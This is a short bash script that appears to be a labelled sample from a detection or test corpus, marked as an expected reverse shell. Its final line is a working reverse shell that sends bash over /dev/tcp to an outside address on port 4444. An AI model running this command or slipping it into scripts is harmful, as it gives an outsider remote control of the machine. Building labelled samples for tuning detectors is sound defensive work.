#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=tune tool=bash seconds=10
# bash calls back over /dev/tcp; somebody outside types into it.
cd "$LAB" || exit 1
exec bash 0<>/dev/tcp/198.51.100.66/4444 1>&0 2>&0
